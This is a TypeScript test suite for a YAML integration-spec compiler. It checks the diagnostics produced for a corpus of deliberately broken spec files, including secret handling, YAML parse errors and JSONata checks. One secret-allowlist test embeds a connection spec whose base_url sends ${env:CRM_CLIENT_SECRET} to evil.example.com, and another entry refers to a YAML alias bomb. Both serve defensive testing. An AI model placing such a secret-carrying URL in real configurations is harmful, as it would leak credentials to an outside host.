/**
 * The broken-spec corpus: every file (or directory) under corpus/ is compiled together with corpus/_shared, and
 * must produce exactly the diagnostics listed here: file, line, col and code. Together they cover every
 * diagnostic code (checked at the end).
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { compileSpecTree } from '../../engine/compiler/compile-spec-set.js';
import { DIAGNOSTIC_CODES } from '../../engine/compiler/diagnostics.js';
import type { Diagnostic } from '../../engine/compiler/diagnostics.js';
import { MAX_SPEC_BYTES } from '../../engine/compiler/spec-tree.js';
import { secretPolicy } from '../../engine/compiler/secret-ref.js';
import type { SpecTreeFile } from '../../engine/compiler/spec-tree.js';
import { referenceEngine } from '../../engine/transform/reference-engine.js';
import { changeStreamSpec, diagnosticsBesideSalesforce } from '../helpers/salesforce-specs.js';
import { testConnectors } from './test-connectors.js';

const root = fileURLToPath(new URL('./corpus/', import.meta.url));
const read = (path: string): SpecTreeFile => ({ path, bytes: readFileSync(root + path) });
const shared = readdirSync(root + '_shared').map((f) => read(`_shared/${f}`));

function compileCase(files: SpecTreeFile[]): Diagnostic[] {
  return compileSpecTree(
    { displayRoot: '.', files: [...shared, ...files] },
    { connectors: testConnectors(), engine: referenceEngine },
  ).diagnostics;
}

function caseFiles(name: string): SpecTreeFile[] {
  if (!statSync(root + name).isDirectory()) return [read(name)];
  const files = readdirSync(root + name, { recursive: true, encoding: 'utf8' });
  return files.filter((f) => statSync(`${root}${name}/${f}`).isFile()).map((f) => read(`${name}/${f}`));
}

const EXPECTED: Record<string, string[]> = {
  'alert-error-rate-range.yaml': ['alert-error-rate-range.yaml:5:44 invalid-value'],
  'alert-secret-literal.yaml': ['alert-secret-literal.yaml:9:12 secret-literal'],
  'alert-two-conditions.yaml': ['alert-two-conditions.yaml:5:3 invalid-value'],
  'alert-unknown-integration.yaml': ['alert-unknown-integration.yaml:4:29 unknown-integration'],
  'duplicate-name': ['duplicate-name/b.yaml:3:7 duplicate-name'],
  'environment-unknown-names.yaml': [
    'environment-unknown-names.yaml:5:3 unknown-connection',
    'environment-unknown-names.yaml:7:3 unknown-lookup',
  ],
  'duplicate-step-id.yaml': ['duplicate-step-id.yaml:8:11 duplicate-step-id'],
  'duplicate-test-case.test.yaml': ['duplicate-test-case.test.yaml:8:11 duplicate-test-case'],
  'invalid-auth-variant.yaml': ['invalid-auth-variant.yaml:7:9 invalid-value'],
  'invalid-format-duration.yaml': ['invalid-format-duration.yaml:8:19 invalid-format'],
  // abandon on a step no restart_from names, and abandon with a read; the abandon of `head` is fine.
  // Its creates `entry` and `head` have neither find nor restart_from: warned as creates that can run twice.
  'invalid-abandon.yaml': [
    'invalid-abandon.yaml:9:16 unguarded-create',
    'invalid-abandon.yaml:12:5 invalid-abandon',
    'invalid-abandon.yaml:13:18 invalid-abandon',
    'invalid-abandon.yaml:17:16 unguarded-create',
  ],
  'capped-list.yaml': ['capped-list.yaml:7:16 capped-list'],
  'invalid-find.yaml': ['invalid-find.yaml:13:18 invalid-find'],
  'invalid-format-name.yaml': ['invalid-format-name.yaml:3:7 invalid-format'],
  'invalid-max-concurrency.yaml': ['invalid-max-concurrency.yaml:7:18 invalid-value'],
  'invalid-options.yaml': ['invalid-options.yaml:7:15 invalid-options'],
  'invalid-params.yaml': ['invalid-params.yaml:10:13 invalid-params'],
  'invalid-type.yaml': ['invalid-type.yaml:11:17 invalid-type'],
  'invalid-schema-overlay': ['invalid-schema-overlay/schemas/overlays/crm/Account.json:1:1 invalid-schema-overlay'],
  'invalid-value-enum.yaml': ['invalid-value-enum.yaml:10:13 invalid-value'],
  'invalid-value-source.yaml': ['invalid-value-source.yaml:5:3 invalid-value'],
  'invalid-value-snapshot.yaml': [
    'invalid-value-snapshot.yaml:11:14 invalid-value',
    'invalid-value-snapshot.yaml:12:21 invalid-value',
  ],
  isolation: ['isolation/also-broken.yaml:7:26 unknown-connection', 'isolation/broken.yaml:1:1 file-not-text'],
  'jsonata-block.yaml': ['jsonata-block.yaml:13:24 jsonata-syntax'],
  'not-a-function.yaml': ['not-a-function.yaml:7:10 not-a-function'],
  'shadowed-builtin.yaml': ['shadowed-builtin.yaml:7:3 shadowed-builtin'],
  'jsonata-folded.yaml': ['jsonata-folded.yaml:15:24 jsonata-syntax'],
  // The column of `price2` in the file, though the block's first line is indented more than the block (`|2`).
  'jsonata-indent-indicator.yaml': ['jsonata-indent-indicator.yaml:14:35 jsonata-syntax'],
  'jsonata-double-quoted.yaml': ['jsonata-double-quoted.yaml:5:23 jsonata-syntax'],
  'jsonata-plain.yaml': ['jsonata-plain.yaml:6:16 jsonata-syntax'],
  'jsonata-single-quoted.yaml': ['jsonata-single-quoted.yaml:10:37 jsonata-syntax'],
  'lookup-csv-missing.yaml': ['lookup-csv-missing.yaml:5:9 lookup-source'],
  'lookup-source.yaml': ['lookup-source.yaml:1:1 lookup-source'],
  'missing-kind.yaml': ['missing-kind.yaml:1:1 unknown-kind'],
  'missing-nested-property.yaml': ['missing-nested-property.yaml:7:5 missing-property'],
  'missing-owns.yaml': ['missing-owns.yaml:9:16 missing-owns'],
  'missing-property.yaml': ['missing-property.yaml:1:1 missing-property'],
  'missing-required-field.yaml': ['missing-required-field.yaml:14:9 missing-required-field'],
  'not-a-mapping.yaml': ['not-a-mapping.yaml:1:1 not-a-mapping'],
  'owned-field-conflict': ['owned-field-conflict/prices.yaml:14:29 owned-field-conflict'],
  // Two owners of only the records they create share fields; an owner of all records still clashes with them.
  'owned-records-created': [
    'owned-records-created/a.yaml:9:16 unguarded-create',
    'owned-records-created/b.yaml:9:16 unguarded-create',
    'owned-records-created/c.yaml:9:16 unguarded-create',
    'owned-records-created/c.yaml:15:14 owned-field-conflict',
  ],
  'read-operation.yaml': ['read-operation.yaml:11:39 read-operation'],
  'read-operation-xref-match.yaml': ['read-operation-xref-match.yaml:17:48 read-operation'],
  'removed-property.yaml': ['removed-property.yaml:6:1 removed-property'],
  'secret-literal-option.yaml': ['secret-literal-option.yaml:7:12 secret-literal'],
  'secret-literal-webhook.yaml': ['secret-literal-webhook.yaml:7:45 secret-literal'],
  'secret-literal.yaml': ['secret-literal.yaml:8:10 secret-literal'],
  'step-order-key.yaml': ['step-order-key.yaml:5:13 step-order'],
  'step-order.yaml': ['step-order.yaml:11:37 step-order'],
  'test-kind-mismatch.test.yaml': ['test-kind-mismatch.test.yaml:2:7 unknown-kind'],
  'unknown-connection-owns.yaml': ['unknown-connection-owns.yaml:9:17 unknown-connection'],
  'unknown-connection.yaml': ['unknown-connection.yaml:8:17 unknown-connection'],
  'unknown-connector.yaml': ['unknown-connector.yaml:4:7 unknown-connector'],
  'unknown-integration.test.yaml': ['unknown-integration.test.yaml:3:14 unknown-integration'],
  'unknown-kind.yaml': ['unknown-kind.yaml:2:7 unknown-kind'],
  'unknown-lookup.yaml': ['unknown-lookup.yaml:10:48 unknown-lookup'],
  'unknown-operation.yaml': ['unknown-operation.yaml:9:16 unknown-operation'],
  'unknown-xref-map.yaml': ['unknown-xref-map.yaml:7:13 unknown-xref-map'],
  // `$index` in the abandon of a step only a plain step restarts from: the abandon runs with no element index.
  'abandon-index-unbound.yaml': ['abandon-index-unbound.yaml:13:98 unknown-variable'],
  // orders require `invoice`, which invoices write; an invoice step requires `order`, which orders write. The
  // categories that require their own map (a parent category) are no cycle.
  'requires-cycle': [
    'requires-cycle/invoices.yaml:11:17 requires-cycle',
    'requires-cycle/orders.yaml:7:13 requires-cycle',
  ],
  'unknown-property.yaml': ['unknown-property.yaml:10:5 unknown-property'],
  'value-does-not-fit.yaml': ['value-does-not-fit.yaml:10:43 value-does-not-fit'],
  'unknown-source-field.yaml': ['unknown-source-field.yaml:12:44 unknown-source-field'],
  'unknown-source-field-webhook-record.yaml': [
    'unknown-source-field-webhook-record.yaml:13:14 unknown-source-field',
    'unknown-source-field-webhook-record.yaml:20:60 unknown-source-field',
  ],
  'unknown-source-field-nats-file': ['unknown-source-field-nats-file/orders.yaml:10:35 unknown-source-field'],
  'unknown-source-field-webhook-events': [
    'unknown-source-field-webhook-events/orders.yaml:14:16 unknown-source-field',
    'unknown-source-field-webhook-events/orders.yaml:15:62 unknown-source-field',
  ],
  'invalid-record-schema.yaml': ['invalid-record-schema.yaml:7:13 invalid-record-schema'],
  'unknown-step.yaml': ['unknown-step.yaml:13:42 unknown-step'],
  'vendor-field-metadata.yaml': [
    'vendor-field-metadata.yaml:10:52 invalid-params',
    'vendor-field-metadata.yaml:11:28 invalid-value',
    'vendor-field-metadata.yaml:11:50 read-only-field',
  ],
  'unknown-target-field.yaml': ['unknown-target-field.yaml:13:9 unknown-target-field'],
  'unknown-top-property.yaml': ['unknown-top-property.yaml:6:1 unknown-property'],
  'unverified-webhook.yaml': ['unverified-webhook.yaml:5:22 unverified-webhook'],
  'unguarded-create.yaml': ['unguarded-create.yaml:9:16 unguarded-create'],
  // Files that do not parse (a tab, a repeated key, a Latin-1 byte) still define their names: the integration, test
  // and lookup that use them report nothing more.
  'unparsed-names': [
    'unparsed-names/erp-prices.yaml:6:1 yaml-duplicate-key',
    'unparsed-names/erp.yaml:7:1 yaml-syntax',
    'unparsed-names/regions.yaml:6:16 file-not-text',
  ],
  // One YAML mistake, one diagnostic: the parser's follow-ons on the lines after it are left out (counted in the
  // message), and the connections named by files that do not parse (a missing colon, a second document) still count.
  'yaml-follow-ons': [
    'yaml-follow-ons/outlet.yaml:7:1 yaml-multiple-documents',
    'yaml-follow-ons/stock.yaml:9:4 yaml-syntax',
    'yaml-follow-ons/warehouse.yaml:4:1 yaml-syntax',
  ],
  'unowned-field-write.yaml': ['unowned-field-write.yaml:10:50 unowned-field-write'],
  'wrong-api-version.yaml': ['wrong-api-version.yaml:1:13 invalid-value'],
  'unknown-function.yaml': ['unknown-function.yaml:10:34 unknown-function'],
  'unknown-function-key-lookup.yaml': [
    'unknown-function-key-lookup.yaml:6:6 unknown-function',
    'unknown-function-key-lookup.yaml:15:39 unknown-variable',
  ],
  'unknown-function-block.yaml': ['unknown-function-block.yaml:15:27 unknown-function'],
  'unknown-function-double-quoted.yaml': ['unknown-function-double-quoted.yaml:5:7 unknown-function'],
  'unknown-function-plain.yaml': [
    'unknown-function-plain.yaml:6:7 unknown-function',
    'unknown-function-plain.yaml:6:23 unknown-function',
  ],
  'invalid-arguments-type.yaml': ['invalid-arguments-type.yaml:10:51 invalid-arguments'],
  'invalid-arguments-arity.yaml': [
    'invalid-arguments-arity.yaml:11:27 invalid-arguments',
    'invalid-arguments-arity.yaml:12:17 invalid-arguments',
  ],
  'invalid-arguments-sum.yaml': [
    'invalid-arguments-sum.yaml:13:31 invalid-arguments',
    'invalid-arguments-sum.yaml:14:28 invalid-arguments',
  ],
  'invalid-picture-number.yaml': ['invalid-picture-number.yaml:10:59 invalid-picture'],
  'invalid-picture-date.yaml': [
    'invalid-picture-date.yaml:13:72 invalid-picture',
    'invalid-picture-date.yaml:14:35 invalid-picture',
  ],
  'invalid-picture-tomillis.yaml': ['invalid-picture-tomillis.yaml:5:29 invalid-picture'],
  'unknown-lookup-key.yaml': ['unknown-lookup-key.yaml:10:56 unknown-lookup-key'],
  'unknown-lookup-key-no-default': ['unknown-lookup-key-no-default/ship.yaml:13:44 unknown-lookup-key'],
  'undefined-name.yaml': ['undefined-name.yaml:9:12 undefined-name'],
  'unknown-variable.yaml': [
    'unknown-variable.yaml:13:18 unknown-variable',
    'unknown-variable.yaml:13:38 unknown-variable',
  ],
  'unknown-time-zone.yaml': ['unknown-time-zone.yaml:10:56 unknown-time-zone'],
  'unknown-time-zone-lookup': ['unknown-time-zone-lookup/stamp.yaml:12:35 unknown-time-zone'],
  'unknown-xref-map-call.yaml': ['unknown-xref-map-call.yaml:7:76 unknown-xref-map'],
  'invalid-field-type-string.yaml': ['invalid-field-type-string.yaml:10:43 invalid-field-type'],
  'invalid-field-type-concat.yaml': [
    'invalid-field-type-concat.yaml:15:28 invalid-field-type',
    'invalid-field-type-concat.yaml:16:19 invalid-field-type',
  ],
  // the record schema's types are read through $defs, definitions, a chain of refs and a ref to the root; the
  // cyclic ref (`loop`) leaves its field open, so reading from it is not reported
  'invalid-field-type-ref.yaml': [
    'invalid-field-type-ref.yaml:25:43 invalid-field-type',
    'invalid-field-type-ref.yaml:25:79 unknown-source-field',
  ],
  'invalid-field-type-source.yaml': [
    'invalid-field-type-source.yaml:11:51 invalid-field-type',
    'invalid-field-type-source.yaml:11:101 invalid-field-type',
  ],
  'invalid-value-condition.yaml': ['invalid-value-condition.yaml:15:65 invalid-value'],
  'unknown-test-step.test.yaml': [
    'unknown-test-step.test.yaml:8:7 unknown-test-reference',
    'unknown-test-step.test.yaml:9:7 unknown-test-reference',
    'unknown-test-step.test.yaml:13:19 unknown-test-reference',
  ],
  'unknown-test-outcome-unknown.test.yaml': ['unknown-test-outcome-unknown.test.yaml:7:32 unknown-test-reference'],
  'unknown-test-lookup-connection.test.yaml': [
    'unknown-test-lookup-connection.test.yaml:7:16 unknown-test-reference',
    'unknown-test-lookup-connection.test.yaml:10:7 unknown-test-reference',
    'unknown-test-lookup-connection.test.yaml:11:48 unknown-test-reference',
  ],
  'unknown-test-event-file': [
    'unknown-test-event-file/prices.test.yaml:6:17 unknown-test-reference',
    'unknown-test-event-file/prices.test.yaml:9:17 unknown-test-reference',
  ],
  'unknown-path-placeholder.yaml': ['unknown-path-placeholder.yaml:10:39 unknown-path-placeholder'],
  'yaml-alias-bomb.yaml': ['yaml-alias-bomb.yaml:5:5 yaml-alias-limit'],
  'yaml-comments-only.yaml': ['yaml-comments-only.yaml:1:1 file-empty'],
  'yaml-duplicate-key.yaml': ['yaml-duplicate-key.yaml:6:1 yaml-duplicate-key'],
  'yaml-empty.yaml': ['yaml-empty.yaml:1:1 file-empty'],
  // A problem in what a step merges (`<<: *anchor`) or aliases (`*name`) is where the anchor's text holds it, once.
  'yaml-merge-key.yaml': ['yaml-merge-key.yaml:6:29 jsonata-syntax', 'yaml-merge-key.yaml:10:19 unknown-connection'],
  'yaml-merge-key-property.yaml': ['yaml-merge-key-property.yaml:11:7 unknown-property'],
  'yaml-multiple-documents.yaml': ['yaml-multiple-documents.yaml:5:1 yaml-multiple-documents'],
  'yaml-syntax.yaml': ['yaml-syntax.yaml:4:9 yaml-syntax'],
  // Valid YAML that a YAML slip made into another shape: the schema error says which slip.
  'yaml-block-ended.yaml': ['yaml-block-ended.yaml:14:5 unknown-property'],
  'yaml-list-without-dash.yaml': ['yaml-list-without-dash.yaml:8:5 invalid-type'],
  'yaml-tabs.yaml': ['yaml-tabs.yaml:5:1 yaml-syntax'],
  'yaml-tag.yaml': ['yaml-tag.yaml:5:6 yaml-tag'],
};

const seenCodes = new Set<string>();

describe('broken-spec corpus', () => {
  it('has an expectation for every corpus entry', () => {
    const entries = readdirSync(root)
      .filter((f) => f !== '_shared')
      .sort();
    expect(entries).toEqual(Object.keys(EXPECTED).sort());
  });

  it('compiles the shared specs cleanly', () => {
    expect(compileCase([])).toEqual([]);
  });

  for (const [name, expected] of Object.entries(EXPECTED)) {
    it(`${name} -> ${expected.map((e) => e.split(' ')[1]).join(', ')}`, () => {
      const actual = compileCase(caseFiles(name));
      actual.forEach((d) => seenCodes.add(d.code));
      expect(actual.map((d) => `${d.file}:${d.line}:${d.col} ${d.code}`)).toEqual(expected);
      for (const d of actual) expect(d.message.length).toBeGreaterThan(10);
    });
  }

  // Windows line endings (a spec repository without core.autocrlf) must not move any diagnostic.
  it('reports the same line:col for every case with CRLF line endings', () => {
    const crlf = (f: SpecTreeFile): SpecTreeFile =>
      /\.ya?ml$/.test(f.path)
        ? // byte for byte (latin1), so a file that is not UTF-8 stays so
          { ...f, bytes: Buffer.from(f.bytes.toString('latin1').replace(/\r?\n/g, '\r\n'), 'latin1') }
        : f;
    const moved = Object.entries(EXPECTED).flatMap(([name, expected]) => {
      const actual = compileCase(caseFiles(name).map(crlf)).map((d) => `${d.file}:${d.line}:${d.col} ${d.code}`);
      return JSON.stringify(actual) === JSON.stringify(expected) ? [] : [{ name, actual, expected }];
    });
    expect(moved).toEqual([]);
  });

  it('turns an unexpected failure inside the compiler into an internal-error diagnostic', () => {
    const broken = {
      get: () => {
        throw new TypeError('registry exploded');
      },
      keys: () => [][Symbol.iterator](),
    };
    const result = compileSpecTree(
      { displayRoot: 'specs', files: shared },
      { connectors: broken as never, engine: referenceEngine },
    );
    seenCodes.add(result.diagnostics[0].code);
    expect(result.specSet).toBeUndefined();
    expect(result.diagnostics).toEqual([
      {
        file: 'specs',
        line: 1,
        col: 1,
        severity: 'error',
        code: 'internal-error',
        message:
          'Junction failed while compiling these specs (registry exploded); this is a bug: please report it with the specs that trigger it',
      },
    ]);
  });

  it('with a secret allowlist, reports each reference outside it where it is written', () => {
    const leaky = {
      path: 'leaky.yaml',
      bytes: Buffer.from(
        'apiVersion: junction/v1\nkind: Connection\nname: leaky\ntype: crm\n' +
          'base_url: https://evil.example.com/${env:CRM_CLIENT_SECRET}\nauth: { type: bearer, token: "${env:GITHUB_TOKEN}" }\n',
      ),
    };
    const result = compileSpecTree(
      { displayRoot: '.', files: [...shared, leaky] },
      {
        connectors: testConnectors(),
        engine: referenceEngine,
        secretPolicy: secretPolicy(['crm=CRM_*', 'SHOP_*', 'HOOK_SECRET']),
      },
    );
    result.diagnostics.forEach((d) => seenCodes.add(d.code));
    expect(result.diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.code} ${d.message}`)).toEqual([
      'leaky.yaml:5:11 secret-not-allowed ${env:CRM_CLIENT_SECRET}: the engine does not allow it; an operator allows it with JUNCTION_ALLOWED_SECRETS=CRM_CLIENT_SECRET (comma-separated; PREFIX* for a prefix, spec=NAME for one spec) or junction run --allow-secret CRM_CLIENT_SECRET',
      'leaky.yaml:6:30 secret-not-allowed ${env:GITHUB_TOKEN}: the engine does not allow it; an operator allows it with JUNCTION_ALLOWED_SECRETS=GITHUB_TOKEN (comma-separated; PREFIX* for a prefix, spec=NAME for one spec) or junction run --allow-secret GITHUB_TOKEN',
    ]);
  });

  it('refuses an environment no Environment spec defines, naming the ones there are', () => {
    const files = [...shared, read('environment-unknown-names.yaml')];
    const result = compileSpecTree(
      { displayRoot: 'specs', files },
      { connectors: testConnectors(), engine: referenceEngine, environment: 'prod' },
    );
    result.diagnostics.forEach((d) => seenCodes.add(d.code));
    expect(result.specSet).toBeUndefined();
    expect(result.diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.code} ${d.message}`)).toContain(
      'specs:1:1 unknown-environment no environment named "prod"; environments: production',
    );
  });

  it('reports a file over the size limit', () => {
    const huge = { path: 'huge.yaml', bytes: Buffer.alloc(MAX_SPEC_BYTES + 1, 'a') };
    const [d] = compileCase([huge]);
    seenCodes.add(d.code);
    expect(d).toMatchObject({ file: 'huge.yaml', line: 1, col: 1, code: 'file-too-large' });
  });

  it("checks a Salesforce change stream's read fields and gap change types against the Salesforce connector", () => {
    // These two need a vendor connector's stream source (its object schemas, its gap change types), which the
    // corpus's test connectors do not have.
    const integration = changeStreamSpec(
      ' { topic: /data/ProductItemChangeEvent, gap_fields: [QuantityOnHnd] }',
      ' ChangeEventHeader.changeType in ["UPDATE", "GAP_CREATE"]',
    );
    const diagnostics = diagnosticsBesideSalesforce({ 'stock.yaml': integration });
    diagnostics.forEach((d) => seenCodes.add(d.code));
    expect(diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.code}`)).toEqual([
      'stock.yaml:8:65 unknown-read-field',
      'stock.yaml:10:40 stand-in-events-skipped',
    ]);
  });

  it('covers every diagnostic code except file-unreadable (disk errors, tested in the CLI tests)', () => {
    const missing = Object.keys(DIAGNOSTIC_CODES).filter((c) => !seenCodes.has(c) && c !== 'file-unreadable');
    expect(missing).toEqual([]);
  });

  it('names every integration of a requires cycle and how to break it, and refuses the spec set', () => {
    const result = compileSpecTree(
      { displayRoot: '.', files: [...shared, ...caseFiles('requires-cycle')] },
      { connectors: testConnectors(), engine: referenceEngine },
    );
    expect(result.specSet).toBeUndefined();
    const message =
      'integrations require each other: cycle-invoices requires `order` (written by cycle-orders), cycle-orders ' +
      "requires `invoice` (written by cycle-invoices). A record's event would wait for a record whose event waits " +
      'for it, until both are dead-lettered at their dependency deadline; drop one of these `requires` (link that ' +
      'record in a later step, or let its target resolve it)';
    expect(result.diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.severity} ${d.code} ${d.message}`)).toEqual([
      `requires-cycle/invoices.yaml:11:17 error requires-cycle ${message}`,
      `requires-cycle/orders.yaml:7:13 error requires-cycle ${message}`,
    ]);
  });

  it('warns about a create nothing keeps from running twice, with the risk and the fix, and still compiles it', () => {
    const result = compileSpecTree(
      { displayRoot: '.', files: [...shared, read('unguarded-create.yaml')] },
      { connectors: testConnectors(), engine: referenceEngine },
    );
    expect(result.specSet?.integrations.has('leads-created-blind')).toBe(true);
    expect(result.diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.severity} ${d.code} ${d.message}`)).toEqual([
      'unguarded-create.yaml:9:16 warning unguarded-create step `lead` creates a record (sobjects.create) with no `find`: a lost answer (a timeout, a dropped connection, a worker killed mid-call) or two attempts of one event at once (a broker redelivery) can create it twice, since the target is not known to honour the Idempotency-Key the engine sends; add `find:` with a read or query of connection crm that finds the record by a reference the create stores (docs/runtime.md "Creates that never duplicate")',
    ]);
  });

  it('takes a find, a restart_from, or an on_error continue rule that names the create or no step as its guard', () => {
    const text = readFileSync(root + 'unguarded-create.yaml', 'utf8');
    const warned = (change: (yaml: string) => string) =>
      compileCase([{ path: 'guarded.yaml', bytes: Buffer.from(change(text)) }]).map(
        (d) => `${d.line}:${d.col} ${d.code}`,
      );
    const body = `    body: '{ "Email": email }'\n`;
    const rule = (match: string) => (yaml: string) => `${yaml}on_error:\n  - { match: '${match}', action: continue }\n`;
    expect(
      warned((yaml) =>
        yaml.replace(body, `${body}    find: { operation: sobjects.query, body: '{ "q": "x" }', match: records }\n`),
      ),
    ).toEqual([]);
    expect(warned((yaml) => yaml.replace(body, `${body}    restart_from: lead\n`))).toEqual([]);
    expect(warned(rule('step = "lead" and status = 400'))).toEqual([]);
    expect(warned(rule('status = 400'))).toEqual([]);
    // A continue rule of another step does not cover this one; a rule naming a step the integration does not have is
    // itself an error, at the name (the rule could never apply).
    expect(warned(rule('step = "other" and status = 400'))).toEqual(['9:16 unguarded-create', '15:22 unknown-step']);
    const misspelt = compileCase([{ path: 'rule.yaml', bytes: Buffer.from(rule('step in ["laed"]')(text)) }]);
    expect(misspelt.map((d) => `${d.line}:${d.col} ${d.code} ${d.message}`)).toContain(
      '15:24 unknown-step no step is named "laed", so `step` never equals it and the rule cannot apply as written; did you mean `lead`?',
    );
  });

  it('names the vendor field metadata a write breaks', () => {
    expect(compileCase([read('vendor-field-metadata.yaml')]).map((d) => d.message)).toEqual([
      '"Name" is not an external id field, so the upsert would answer 404; use one of `Ext_Id__c`',
      '"Lukewarm" is not a value of `Rating`, a restricted picklist: "Hot", "Warm", "Cold"',
      '`Score__c` is computed by the vendor (a formula or roll-up) and cannot be written: remove it from the body',
    ]);
  });

  it('explains the problem and the fix in the message', () => {
    const [typo] = compileCase([read('unknown-property.yaml')]);
    expect(typo.message).toBe('unknown property `bodyy` in `steps[0]`; did you mean `body`?');
    const [secret] = compileCase([read('secret-literal.yaml')]);
    expect(secret.message).toBe(
      '`auth.token` holds a literal secret; write it as an environment reference like ${env:MY_SECRET}',
    );
    const unparsed = compileCase(caseFiles('unparsed-names')).map((d) => d.message);
    expect(unparsed).toEqual([
      '`key` is already a key of this mapping (line 5); each key may appear once',
      'Tabs are not allowed as indentation; indent with spaces, never tabs',
      'the byte 0xF8 here is not UTF-8 (was the file saved as Latin-1 or Windows-1252?); save it as UTF-8',
    ]);
    const misnamed = readFileSync(root + 'unknown-integration.test.yaml', 'utf8').replace('nobody', 'good-prises');
    expect(compileCase([{ path: 'misnamed.test.yaml', bytes: Buffer.from(misnamed) }]).map((d) => d.message)).toEqual([
      'no integration named "good-prises" to test; did you mean `good-prices`?',
    ]);
    const [jsonata] = compileCase([read('jsonata-block.yaml')]);
    expect(jsonata.message).toBe(
      'JSONata S0202 Expected "}", got "price2"; a comma may be missing before this (between entries, items or ' +
        'arguments), or an operator (& joins strings, and/or combine conditions); a field name that holds a space ' +
        'is quoted with ` (`first name`)',
    );
    const [target] = compileCase([read('unknown-target-field.yaml')]);
    expect(target.message).toBe(
      '`special_pric` is not a field of product (shop products.update input); did you mean `special_price`?',
    );
    const [source] = compileCase([read('unknown-source-field.yaml')]);
    expect(source.message).toBe(
      '`emial` is not a field of the records shop orders.search returns; did you mean `email`?',
    );
  });

  it('says which YAML slip a schema error comes from: a block ended by a less indented line, items without `- `', () => {
    expect(compileCase([read('yaml-block-ended.yaml')]).map((d) => d.message)).toEqual([
      'unknown property `price` in `steps[0]`: it stands right after the text of `body` (line 12) and is indented ' +
        "less, which ends that text; if it is part of it, indent it like the text's lines (column 7)",
    ]);
    expect(compileCase([read('yaml-list-without-dash.yaml')]).map((d) => d.message)).toEqual([
      '`steps` must be an array, got an object: write each item on a line of its own that starts with `- `',
    ]);
  });

  it('refuses a comparison with undefined (always false), not `undefined` as the idiom for no value', () => {
    expect(compileCase([read('undefined-name.yaml')]).map((d) => d.message)).toEqual([
      'JSONata has no `undefined`: this reads a field named undefined, which is missing, so `!=` with it is always ' +
        'false; test a missing field with $exists(field) (or $not($exists(field))), a JSON null with field = null',
    ]);
  });

  it('holds a field to a declared record schema as an error, and to the recorded test events as a warning', () => {
    const declared = compileCase(caseFiles('unknown-source-field-webhook-record.yaml'));
    expect(declared.map((d) => `${d.severity} ${d.message}`)).toEqual([
      'error `entity_idd` is not a field of the events `source.webhook.record` declares; did you mean `entity_id`?',
      'error `nmae` is not a field of the events `source.webhook.record` declares; did you mean `name`?',
    ]);
    const sampled = compileCase(caseFiles('unknown-source-field-webhook-events'));
    expect(sampled.map((d) => `${d.severity} ${d.message}`)).toEqual([
      "warning no recorded test event (orders.test.yaml) has `skuu` (did you mean `sku`?); if real events carry it, declare the source's `record` schema",
      "warning no recorded test event (orders.test.yaml) has `fax`; if real events carry it, declare the source's `record` schema",
    ]);
    const [missing] = compileCase([read('invalid-record-schema.yaml')]);
    expect(missing.message).toBe(
      'record schema file schemas/order.json does not exist (looked for schemas/order.json)',
    );
  });
});
